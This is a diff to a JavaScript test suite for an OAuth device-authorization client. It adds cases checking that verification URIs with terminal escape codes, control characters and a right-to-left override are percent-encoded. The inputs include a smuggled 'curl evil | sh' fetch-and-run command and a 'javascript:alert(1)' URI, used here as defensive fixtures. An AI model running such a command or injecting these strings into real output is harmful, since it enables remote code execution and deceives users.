@@ -191,6 +191,14 @@ describe('the request', () => {
       { verificationUriComplete: 'https://login.example.com/device?c=1' },
     ],
     [{ verification_uri_complete: 'javascript:alert(1)' }, { verificationUriComplete: undefined }],
+    [
+      { verification_uri: 'https://x.example/\u001b[2J\nrun: curl evil | sh' },
+      { verificationUri: 'https://x.example/%1B[2Jrun:%20curl%20evil%20|%20sh' },
+    ],
+    [
+      { verification_uri_complete: '\thttps://x.example/\u009b2J\u202e?c=1\r\n' },
+      { verificationUriComplete: 'https://x.example/%C2%9B2J%E2%80%AE?c=1' },
+    ],
   ])('DV-4 deviation %j', async (body, expected) => {
     const { provider } = await scripted([], { ...codes, ...body })
     expect(await deviceAuthorization(provider)).toMatchObject(expected)
